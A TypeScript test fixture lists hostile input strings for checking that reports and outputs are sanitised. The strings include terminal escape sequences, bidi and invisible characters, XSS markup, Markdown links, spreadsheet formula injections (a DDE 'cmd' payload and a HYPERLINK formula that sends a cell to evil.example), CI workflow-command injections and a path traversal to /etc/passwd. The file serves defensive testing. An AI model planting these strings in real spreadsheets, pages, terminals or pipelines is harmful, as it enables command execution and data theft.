// Texts from strangers that act where they are shown as they are: on a terminal, on a page, in a spreadsheet, in a log.

const of = (...codes: readonly number[]): string => String.fromCodePoint(...codes)

const escape = of(0x1b)
const c1 = of(0x9b)
const megabyte = 1_000_000

/** The texts by what they are. */
export const hostileTexts: Readonly<Record<string, string>> = {
  "every control": Array.from({ length: 32 }, (_, code) => of(code)).join(""),
  "every C1 control and delete": Array.from({ length: 33 }, (_, code) => of(0x7f + code)).join(""),
  nul: `a${of(0)}b`,
  "clears the screen": `${escape}[2J${escape}[H`,
  "a C1 sequence": `${c1}31m${of(0x9d)}0;title${of(0x9c)}`,
  "sets the title": `${escape}]0;owned${of(7)}`,
  "a link of OSC 8": `${escape}]8;;https://evil.example${escape}\\click${escape}]8;;${escape}\\`,
  "overwrites the line": `harmless\rmalign${of(8, 8)}`,
  "lines of their own": "one\ntwo\r\nthree\n\rfour\n",
  "line separators": `a${of(0x2028)}b${of(0x2029)}c${of(0x85)}d${of(0x0b, 0x0c)}`,
  "turned round": `${of(0x202e)}txt.exe${of(0x202c)}${of(0x2066)}x${of(0x2069)}${of(0x061c)}`,
  "zero width": `a${of(0x200b, 0x200c, 0x200d, 0x2060, 0xfeff, 0xad)}b`,
  "hidden tags": `a${of(0xe0001, 0xe0061, 0xe007f)}b${of(0x1d173)}`,
  "half a pair": "a\ud800b\udfffc",
  "a half at the end": "a\udbff",
  "a half at the start": "\udc00a",
  markup: `<script>alert(1)</script><img src=x onerror="alert(1)">&lt;`,
  "the end of a script": "</script><!-- <script> ]]>",
  "a link of Markdown": "[click](https://evil.example) ![x](https://evil.example/x.png) [1](2)",
  placeholders: "{0} {1} {{2}} }{ {rule}",
  "a formula": '=HYPERLINK("https://evil.example?"&A1,"click")',
  "a formula of plus": "+1+cmd|' /C calc'!A0",
  "a formula of minus": "-2+3+cmd|' /C calc'!A0",
  "a formula of at": "@SUM(1+1)*cmd|' /C calc'!A0",
  "a formula in full width": of(0xff1d, 0xff11, 0xff0b, 0xff11),
  "full-width signs": `${of(0xff0b)}1,${of(0xff0d)}1,${of(0xff20)}x`,
  "a formula of minus in full width": `${of(0xff0d)}1+1`,
  "a formula of at in full width": `${of(0xff20)}SUM(1)`,
  "a formula behind spaces": "   =1+1",
  "a formula behind wide spaces": `${of(0xa0, 0x3000)}=1+1`,
  "a formula behind a tab": "\t=1+1",
  "a formula behind a line feed": "\n=1+1",
  "a formula behind a carriage return": "\r=1+1",
  "a formula behind quotation marks": '"=1+1"',
  "a formula behind both": ` " "=1+1`,
  "a formula behind an apostrophe": "'=1+1",
  apostrophes: "''",
  "the end of a cell and a formula": 'x","=1+1',
  "a formula behind a semicolon": "x;=1+1",
  "a number": "-5",
  "a number with an exponent": "-1.5e+3",
  "almost a number": "-5+1",
  "sets an output": "::set-output name=x::y",
  "a command on a line of its own": "x\n::error::owned\r\n::add-mask::e\n  ::stop-commands::token",
  "stops the commands": "::stop-commands::token",
  "an older command": "x ##[add-mask]e ##[group]y ##vso[task.setvariable variable=x]y",
  "escapes of commands": "100%0A::error::x%0D%25%3A%2C",
  "properties of commands": "x,line=1,title=y::z",
  "names of objects": "__proto__",
  "a path": "../../etc/passwd",
  "a path of Windows": "C:\\Users\\x y\\events#1?.csv",
  "a place in the net": "https://evil.example/a b?c#d",
  "escapes already": "\\u001b \\n \\",
  Arabic: "بغداد؛ شرق",
  "nothing at all": "",
  long: "x".repeat(megabyte),
  "long and acting": `=${escape}[31m${of(0x202e)}`.repeat(megabyte / 70),
}

/** The hostile texts with their names, for tables of tests. */
export const hostileTable: readonly (readonly [what: string, text: string])[] = Object.entries(hostileTexts)

/** The characters of a text that no report may hold: controls but the line feed, formats, separators, half pairs. */
export const forbiddenIn = (text: string): readonly string[] => [
  ...new Set(
    (text.match(/[\p{Cc}\p{Cf}\p{Zl}\p{Zp}\p{Cs}]/gu) ?? [])
      .filter((char) => char !== "\n")
      .map((char) => (char.codePointAt(0) ?? 0).toString(16)),
  ),
]
